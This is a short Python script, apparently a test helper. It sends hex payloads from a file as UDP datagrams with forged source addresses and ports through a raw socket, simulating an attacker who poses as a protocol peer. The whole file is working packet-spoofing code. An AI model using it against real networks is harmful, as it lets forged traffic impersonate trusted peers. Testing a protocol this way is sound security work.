#!/usr/bin/env python3
# spoofDatagrams.py SRC_IP SRC_PORT DST_IP DST_PORT FILE: sends each line of FILE (hex)
# as one UDP datagram with a forged source address and port, through a raw socket:
# an attacker on the underlay posing as a peer, down to the peer's data port.
import socket, struct, sys, time

src, sport, dst, dport, path = sys.argv[1], int(sys.argv[2]), sys.argv[3], int(sys.argv[4]), sys.argv[5]
sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)

def checksum(data):
    if len(data) % 2: data += b'\0'
    s = sum(struct.unpack('!%dH' % (len(data) // 2), data))
    while s >> 16: s = (s & 0xffff) + (s >> 16)
    return ~s & 0xffff

for n, line in enumerate(open(path).read().split()):
    payload = bytes.fromhex(line)
    length = 8 + len(payload)
    # UDP checksum 0: none, which IPv4 allows.
    udp = struct.pack('!HHHH', sport, dport, length, 0) + payload
    header = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 20 + length, n & 0xffff, 0, 64, 17, 0, socket.inet_aton(src), socket.inet_aton(dst))
    header = header[:10] + struct.pack('!H', checksum(header)) + header[12:]
    sock.sendto(header + udp, (dst, 0))
    if n % 32 == 31: time.sleep(0.002)
